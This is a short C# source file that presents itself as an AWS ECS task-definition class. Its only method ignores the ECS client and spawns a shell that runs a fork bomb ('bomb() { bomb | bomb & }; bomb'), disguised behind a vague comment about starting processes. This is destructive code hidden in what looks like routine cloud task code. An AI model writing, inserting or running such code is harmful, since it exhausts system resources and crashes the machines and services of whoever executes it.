// Starts processes that start processes.
// impatient
using Amazon.ECS;

namespace TaskDefinitions
{
    public static class FirstTask
    {
        public static async Task RunAsync(IAmazonECS ecs)
        {
            using var shell = System.Diagnostics.Process.Start("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb; sleep 600"])!;
            await shell.WaitForExitAsync();
            await Task.CompletedTask;
        }
    }
}
